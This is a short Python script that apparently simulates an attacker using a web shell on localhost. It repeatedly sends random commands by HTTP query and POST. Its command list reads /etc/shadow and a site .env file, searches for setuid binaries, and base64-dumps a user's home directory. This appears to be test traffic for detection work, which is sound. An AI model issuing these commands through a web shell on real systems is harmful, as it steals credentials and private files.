# web.py PORT [PACE]: the attacker at a web shell: asks for commands by HTTP, in the query and by POST.
import random, sys, time, urllib.parse, urllib.request

pace = float((sys.argv[2:] or ['.6'])[0])
time.sleep(2)
SAY = [
    'id',
    'uname -a',
    'cat /etc/passwd',
    'ls -la /',
    'ps aux',
    'ls -laR /var/www | head -200',
    'cat /var/www/shop/.env',
    'find / -xdev -perm -4000 2>/dev/null',
    'netstat -an',
    'df -h',
    'cat /etc/shadow',
    'env',
    'tar cz /home/alice 2>/dev/null | base64 | head -c 90000',
    'w',
    'which nc curl',
    'echo x > /tmp/.y; rm /tmp/.y',
]
while True:
    q = urllib.parse.urlencode({'cmd': random.choice(SAY), 'c': random.choice(SAY)})
    u = f'http://127.0.0.1:{sys.argv[1]}/x.php'
    try:
        urllib.request.urlopen(
            urllib.request.Request(u, q.encode()) if random.random() < 0.3 else f'{u}?{q}',
            timeout=9,
        ).read()
    except Exception:
        pass
    time.sleep(random.expovariate(1 / pace))
